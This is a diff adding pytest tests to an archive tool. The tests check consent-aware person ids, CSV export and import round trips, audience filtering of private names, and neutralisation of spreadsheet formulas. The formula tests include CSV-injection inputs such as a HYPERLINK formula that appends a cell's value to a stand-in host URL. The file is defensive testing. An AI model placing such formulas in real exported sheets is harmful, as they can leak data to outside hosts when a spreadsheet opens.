@@ -19,6 +19,7 @@ from parlour.csvio import (
     format_row_problems,
     import_csv,
 )
+from parlour.archive.checks import check_archive
 from parlour.archive.loader import load_archive
 
 from .test_loader import write
@@ -210,6 +211,27 @@ def test_id_made_from_the_title(archive, tmp_path):
     assert [p.name for p in result.written] == ["li-xiuzhen.yml"]
 
 
+def test_person_ids_never_spell_a_private_name(archive, tmp_path):
+    """A blank id is the name's pinyin only when the row's consent makes the name public."""
+    path = tmp_path / "p.csv"
+    path.write_text(sheet([
+        ["name_zh", "name_en", "display_name", "consent_level", "consent_name"],
+        ["周美芳", "", "", "public", ""],  # public name: pinyin, as before
+        ["赵敏", "", "赵老师", "public", "private"],  # name narrowed: the display name
+        ["钱二", "", "", "community", "private"],  # nothing else: a number
+        ["孙三", "Sun San", "孙三师傅", "", ""],  # no consent given: not public; the display
+        ["", "", "", "private", ""],  # name spells the name, so a number; a tombstone too
+        ["李四", "", "李阿姨", "public", "community"],  # name public only in the parlour
+    ]), encoding="utf-8")
+    result = import_csv(path, "people", root=archive)
+    assert [p.name for p in result.written] == [
+        "zhou-meifang.yml", "zhao-laoshi.yml", "resident-18.yml", "resident-19.yml",
+        "resident-20.yml", "li-ayi.yml",
+    ]  # the base archive has resident-17 already
+    problems = [p for p in check_archive(archive) if p.severity == "error"]
+    assert {p.path for p in problems} == {"stories/people/resident-19.yml"}  # no consent
+
+
 def test_numbered_parts_and_bodies(empty, tmp_path):
     path = tmp_path / "events.csv"
     rows = [
@@ -269,11 +291,14 @@ ROUND_TRIP = {
         "\n"
         "每天晚上七点，全家围着它听评弹。\n"
         "\n"
+        "- 第一条：=1+1 只是文字\n"
+        "\n"
         "Every evening at seven, \"the whole family\", listened.\n"
     ),
     "stories/events/radio-hour.yml": (
         "date: 1980/1985\n"
-        "title: 广播时间\n"
+        "title: {zh: 广播时间, en: \"-5 degrees\"}\n"
+        "summary: {zh: \"'=already quoted\", en: \"+86 21 5555 0000\"}\n"
         "status: happened\n"
         "sources:\n"
         "  - {title: 区志, url: 'https://example.org/a?b=1,2', accessed: 2025-01}\n"
@@ -283,6 +308,19 @@ ROUND_TRIP = {
     "stories/wishes/radio-again.yml": (
         "text: {zh: 再听一次评弹, en: \"Pingtan, once more\"}\n"
         "by: people/li\n"
+        "approved: true\n"
+        "era: future\n"
+    ),
+    # cells a spreadsheet would run: they go out quoted and come back as they were
+    "stories/wishes/formula.yml": (
+        "text: {zh: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1, \\\"点我\\\")\", en: \"@SUM(1+1)\"}\n"
+        "by: \"-2+3\"\n"
+        "date: \"2026\"\n"
+        "approved: true\n"
+    ),
+    "stories/wishes/plain-number.yml": (
+        "text: \"-5\"\n"
+        "by: \"+ 老邻居\"\n"
         "approved: true\n"
         "era: future\n"
     ),
@@ -299,7 +337,7 @@ def test_round_trip(tmp_path, empty, source):
         root = ROOT
     original = load_archive(root)
     for type_ in ("objects", "events", "wishes", "people"):
-        text = export_csv(root, type_)
+        text = export_csv(root, type_, unfiltered=True)
         assert text.startswith("\ufeff")  # for Excel
         path = tmp_path / f"{source}-{type_}.csv"
         path.write_bytes(text.encode("utf-8"))
@@ -333,12 +371,136 @@ def test_export_of_an_empty_type_is_a_blank_sheet(empty):
 
 
 def test_export_notes_records_with_errors(tmp_path):
-    write(tmp_path, "stories/wishes/ok.yml", "text: 好\n")
+    write(tmp_path, "stories/wishes/ok.yml", "text: 好\napproved: true\n")
     write(tmp_path, "stories/wishes/broken.yml", "text: 坏\nstatus: maybe\n")
     notes: list[str] = []
     text = export_csv(tmp_path, "wishes", notes=notes)
     assert [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:] == ["ok"]
     assert notes == ["left out stories/wishes/broken.yml: it has errors (run `parlour check`)"]
+
+
+# --------------------------------------------------------------------------- formulas
+
+
+def rows_of(text: str) -> dict[str, dict[str, str]]:
+    return {r["id"]: r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\0x", "'\0x"),
+        ("  =1+1", "'  =1+1"),  # LibreOffice can trim the spaces
+        ("'=x", "''=x"),  # a quote already there gets one more, to come back as it was
+        ("-5", "-5"),  # plain numbers: a spreadsheet reads a number, never a formula
+        ("+3", "+3"),
+        ("-0.5", "-0.5"),
+        ("1985/..", "1985/.."),
+        ("../1985", "../1985"),
+        ("'hello", "'hello"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_neutralise_and_restore(value, written):
+    from parlour.spreadsheet import FORMULA_START, neutralise, restore
+
+    assert neutralise(value) == written
+    assert restore(written) == value
+    if written != value:  # a positive control: the neutralised cell starts with the quote
+        assert written[0] == "'" and written.lstrip("' ")[0] in FORMULA_START
+
+
+def test_export_neutralises_formulas(tmp_path):
+    """Both exports (the audience's and the committee's unfiltered copy) quote formulas."""
+    root = tmp_path / "made"
+    for rel, text in ROUND_TRIP.items():
+        write(root, rel, text)
+    for kwargs in ({}, {"audience": "public"}, {"unfiltered": True}):
+        wishes = rows_of(export_csv(root, "wishes", **kwargs))
+        formula = wishes["formula"]
+        assert formula["text_zh"] == "'=HYPERLINK(\"http://x.example/?\"&A1, \"点我\")", kwargs
+        assert formula["text_en"] == "'@SUM(1+1)"
+        assert formula["by"] == "'-2+3"
+        assert wishes["plain-number"]["text_zh"] == "-5"
+        assert wishes["plain-number"]["by"] == "'+ 老邻居"
+    objects = rows_of(export_csv(root, "objects", unfiltered=True))
+    assert objects["radio"]["number"] == "0042"
+    events = rows_of(export_csv(root, "events", unfiltered=True))
+    assert events["radio-hour"]["summary_zh"] == "''=already quoted"
+    assert events["radio-hour"]["summary_en"] == "'+86 21 5555 0000"
+
+
+def test_import_restores_what_the_export_quoted(empty, tmp_path):
+    path = tmp_path / "w.csv"
+    path.write_text(sheet([
+        ["id", "text_zh", "text_en", "by"],
+        ["a", "'=SUM(A1)", "'hello", "'-5"],
+        ["b", "''@x", "-5", "'+ 老邻居"],
+    ]), encoding="utf-8")
+    result = import_csv(path, "wishes", root=empty)
+    assert result.problems == [], format_row_problems(result.problems)
+    wishes = load_archive(empty).records["wishes"]
+    assert wishes["a"].text == {"zh": "=SUM(A1)", "en": "'hello"}  # 'hello was never quoted
+    assert wishes["a"].by == "-5"
+    assert wishes["b"].text == {"zh": "'@x", "en": "-5"}
+    assert wishes["b"].by == "+ 老邻居"
+
+
+# --------------------------------------------------------------------------- audiences
+
+
+AUDIENCE_ARCHIVE = {
+    "stories/people/open.yml": (
+        "name: {zh: 公开人, en: Open Person}\nconsent: {level: public}\n"),
+    "stories/people/quiet.yml": (
+        "name: {zh: 秘名字甲, en: Secretname Jia}\ndisplay_name: 老邻居\n"
+        "consent: {level: public, name: private}\n"),
+    "stories/people/local.yml": (
+        "name: {zh: 社区人, en: Shequ Person}\nconsent: {level: community}\n"),
+    "stories/people/gone.yml": "consent: {level: withdrawn}\n",
+    "stories/objects/kettle.md": (
+        "---\ntitle: 水壶\ndonor: quiet\ncredit_line: 秘名字甲惠赠\n"
+        "related: [people/gone]\n---\n水壶的故事。\n"),
+    "stories/objects/radio.md": "---\ntitle: 收音机\nlender: local\n---\n社区的收音机。\n",
+}
+
+
+def test_export_reads_the_audiences_view(tmp_path):
+    root = tmp_path / "a"
+    for rel, text in AUDIENCE_ARCHIVE.items():
+        write(root, rel, text)
+    notes: list[str] = []
+    public = export_csv(root, "people", audience="public", notes=notes)
+    assert set(rows_of(public)) == {"open", "quiet"}
+    assert notes == ["left out 2 record(s) the public audience may not see"]
+    quiet = rows_of(public)["quiet"]
+    assert quiet["name_zh"] == quiet["name_en"] == "" and quiet["display_name_zh"] == "老邻居"
+    assert "秘名字甲" not in public and "Secretname" not in public
+    assert all(row["consent_level"] == "" for row in rows_of(public).values())
+
+    community = export_csv(root, "people")  # the default: what the parlour may show
+    assert set(rows_of(community)) == {"open", "quiet", "local"}
+    assert "社区人" in community and "秘名字甲" not in community
+    assert "public" not in community and "withdrawn" not in community  # no consent at all
+
+    objects = rows_of(export_csv(root, "objects", audience="public"))
+    assert set(objects) == {"kettle"}  # the radio is a community person's
+    kettle = objects["kettle"]
+    assert kettle["credit_line_zh"] == "" and kettle["related"] == ""
+    assert kettle["body"] == "水壶的故事。"
+    assert set(rows_of(export_csv(root, "objects"))) == {"kettle", "radio"}
+
+    unfiltered = export_csv(root, "people", unfiltered=True)
+    assert set(rows_of(unfiltered)) == {"open", "quiet", "local", "gone"}
+    assert rows_of(unfiltered)["quiet"]["name_zh"] == "秘名字甲"
+    assert rows_of(unfiltered)["gone"]["consent_level"] == "withdrawn"
 
 
 # --------------------------------------------------------------------------- commands
@@ -385,7 +547,17 @@ def test_commands(archive, tmp_path):
                                  "--out", str(out)])
     assert result.exit_code == 0, result.output
     data = out.read_bytes()
-    assert data.startswith(b"\xef\xbb\xbfid,text_zh,text_en,") and "甲".encode() in data
+    assert data.startswith(b"\xef\xbb\xbfid,text_zh,text_en,")
+    assert "甲".encode() not in data  # the wish is not approved: the parlour may not show it
+    result = runner.invoke(cli, ["export", "csv", "--type", "wishes", "--root", str(archive),
+                                 "--out", str(out), "--unfiltered"])
+    assert result.exit_code == 0, result.output
+    assert "甲".encode() in out.read_bytes()
+    result = runner.invoke(cli, ["export", "csv", "--type", "people", "--root", str(archive),
+                                 "--audience", "public"])
+    assert result.exit_code == 0, result.output
+    assert "wang-jianguo" in result.output and "li-meifang" not in result.output
+    assert "left out 2 record(s) the public audience may not see" in result.output
 
     result = runner.invoke(cli, ["import", "csv", str(path), "--type", "places",
                                  "--root", str(archive)])
